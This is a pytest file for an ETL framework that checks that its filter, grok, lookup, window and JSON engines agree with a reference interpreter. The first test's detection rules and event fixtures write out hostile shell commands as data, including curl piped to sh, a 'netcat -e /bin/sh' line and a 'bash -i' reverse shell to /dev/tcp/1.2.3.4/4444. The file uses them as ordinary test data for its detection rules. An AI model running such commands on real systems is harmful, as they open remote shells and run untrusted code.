"""Every engine alternative on the same input against the reference: rules in the JVM or in Python workers with
the prefilter on or off (etl.optimize.reference), the three grok paths, the three lookup stores and both window
engines (the example pipelines' own `tests:` blocks). Each engine is forced through the planner's Target
(ETL_FORCE_ENGINES, etl.physical.target.planner_settings), the way a user would."""

from __future__ import annotations

from pathlib import Path

import pytest

from etl.check import check_file
from etl.physical import physical_plan, planner_settings

ROOT = Path(__file__).resolve().parents[2]

RULES = """
name: engines-rules
sources: [{id: src, type: file, path: in, format: jsonl, schema: {cmd: string, code: bigint}}]
transforms:
  - id: kept
    type: filter
    input: src
    rules:
      - {id: curl_sh, when: {field: cmd, regex: 'curl\\s.*\\|\\s*(ba)?sh'}}
      - {id: netcat, when: {field: cmd, contains: 'netcat -e'}}
  - {id: all, type: select, input: src, fields: [cmd, code]}  # its own input: no pass shared with `kept`
  - id: tagged
    type: filter
    input: all
    mode: tag
    tag_field: hits
    rules:
      - {id: wget, when: {field: cmd, starts_with: wget}}
      - {id: reverse, when: {field: cmd, regex: 'bash\\s+-i\\s+>&'}}
sinks:
  - {id: o1, type: file, input: kept, path: o1}
  - {id: o2, type: file, input: tagged, path: o2}
"""
EVENTS = [{"cmd": c, "code": i} for i, c in enumerate([
    "curl http://x | sh", "curl http://x|bash", "netcat -e /bin/sh 1.2.3.4", "ls -la", "wget http://y -O z",
    "bash -i >& /dev/tcp/1.2.3.4/4444", "echo curl", None, "WGET upper", "NETCAT -E caseless? no"])]


def _forced(monkeypatch, engines):
    monkeypatch.setenv("ETL_FORCE_ENGINES", ",".join(engines))


def _plan_engines(plan, spark):
    return physical_plan(plan, planner_settings(master=spark.sparkContext.master)).choices()


@pytest.mark.spark
@pytest.mark.parametrize("engines", [("rules-jvm", "prefilter-jvm"), ("rules-jvm", "no-prefilter"),
                                     ("rules-python", "prefilter-jvm"), ("rules-python", "no-prefilter")],
                         ids="+".join)
def test_rule_engines_agree_with_the_reference_interpreter(spark, tmp_path, monkeypatch, engines):
    from etl.optimize.reference import matched_rules
    from etl.runtime.testing import run_case
    from etl.spec.pipeline import TestCase

    _forced(monkeypatch, engines)
    (tmp_path / "p.yaml").write_text(RULES)
    c = check_file(str(tmp_path / "p.yaml"), programs=True)
    assert c.plan is not None, [d.render() for d in c.report.sorted()]
    chosen = _plan_engines(c.plan, spark)
    for node in ("kept", "tagged"):
        assert (chosen[(node, "rules")], chosen[(node, "prefilter")]) == engines
    rules = {n: [r.rule for r in c.plan.graph.rules[n]] for n in ("kept", "tagged")}
    expect = {"o1": [e for e in EVENTS if matched_rules(rules["kept"], e)],
              "o2": [{**e, "hits": matched_rules(rules["tagged"], e)} for e in EVENTS]}
    assert len(expect["o1"]) == 3 and sum(1 for r in expect["o2"] if r["hits"]) == 2
    res = run_case(c.plan, TestCase(name="engines", inputs={"src": EVENTS}, expect=expect), spark)
    assert res.ok, res.message


EXAMPLE_ENGINES = [
    ("example_grok", "parsed", "captures", "grok-program"),
    ("example_grok", "parsed", "captures", "java-regex"),
    ("example_grok", "parsed", "captures", "spark-regexp"),
    ("example_lookup", "enriched", "store", "broadcast"),
    ("example_lookup", "enriched", "store", "rocksdb-jvm"),
    ("example_lookup", "enriched", "store", "rocksdb-python"),
    ("example_window", "per_minute", "window", "native"),
    ("example_window", "per_minute", "window", "state"),
    ("example_filter", "orders", "reader", "jsonl-jvm"),
    ("example_filter", "orders", "reader", "spark-json-reader"),
]


@pytest.mark.spark
@pytest.mark.parametrize("example,node,aspect,engine", EXAMPLE_ENGINES, ids=lambda x: str(x))
def test_each_engine_passes_the_example_pipelines_tests(spark, monkeypatch, example, node, aspect, engine):
    from etl.runtime.testing import run_tests

    _forced(monkeypatch, [engine])
    c = check_file(str(ROOT / "pipelines" / f"{example}.yaml"), programs=True)
    assert _plan_engines(c.plan, spark)[(node, aspect)] == engine
    results = run_tests(c, spark)
    assert results and all(r.ok for r in results), "\n\n".join(r.message for r in results if not r.ok)


@pytest.mark.spark
@pytest.mark.parametrize("engine", ["json-jvm", "to_json"])
def test_json_lines_engines_agree_with_python_json(spark, engine):
    import json
    from datetime import date

    from etl.components.sinks.file.jsonlines import json_lines

    rows = [(1, 'say "hi"\n\u00e9\U0001f600', 2.5, True, ["a", None], date(2024, 2, 29)),
            (None, None, None, None, None, None), (-(2**62), "", -0.0, False, [], date(1970, 1, 1))]
    df = spark.createDataFrame(rows, "n bigint, s string, d double, b boolean, xs array<string>, day date")
    col, newline = json_lines(df, engine)
    assert newline == (engine == "json-jvm")
    got = [json.loads(r[0]) for r in df.select(col).collect()]
    expect = [{k: (v.isoformat() if isinstance(v, date) else v) for k, v in zip(df.columns, row, strict=True) if v is not None}
              for row in rows]
    assert got == expect


@pytest.mark.spark
@pytest.mark.parametrize("engines", [("jsonl-jvm", "batchrows-jvm"), ("spark-json-reader", "observe")],
                         ids="+".join)
def test_file_reader_and_write_count_engines_run_an_example_with_its_files(spark, tmp_path, monkeypatch, engines):
    """example_filter run for real (its jsonl file source, its file sink; `etl test` replaces both), the source's
    reader and the sink's count forced: the rows written and the dead letters of a malformed line are the
    oracle's, and the run records the forced engines."""
    import json
    import shutil

    from tests.spark.test_physical_run import run_once

    _forced(monkeypatch, engines)
    shutil.copytree(ROOT / "pipelines", tmp_path / "p", ignore=shutil.ignore_patterns("sql"))
    data = tmp_path / "p" / "data" / "orders.jsonl"
    orders = [json.loads(line) for line in data.read_text().splitlines()]
    data.write_text(data.read_text() + '{"order_id": "broken", "amount": \n')
    c = check_file(str(tmp_path / "p" / "example_filter.yaml"), programs=True)
    assert (_plan_engines(c.plan, spark)[("orders", "reader")], _plan_engines(c.plan, spark)[("out", "count")]) == engines
    run = run_once(spark, c.plan, tmp_path / "ck")
    assert (run.compiler.ctx.executed[("orders", "reader")], run.compiler.ctx.executed[("out", "count")]) == engines

    def rows(folder):
        return [json.loads(x) for f in sorted(folder.glob("part-*")) for x in f.read_text().splitlines()]

    flags = lambda o: [f for f, on in (("very-large", o["amount"] >= 800),  # noqa: E731
                                       ("watched-customer", o["customer"] in ("umbrella", "stark"))) if on]
    expect = sorted((o["order_id"], o["amount"], flags(o)) for o in orders if o["status"] == "paid" and o["amount"] >= 500)
    got = sorted((r["order_id"], r["amount"], r["flags"]) for r in rows(tmp_path / "out" / "examples" / "filter"))
    assert len(expect) > 5 and got == expect
    dead = rows(tmp_path / "dead_letters")
    assert [(d["stage"], d["payload"]) for d in dead] == [("orders", '{"order_id": "broken", "amount": ')]
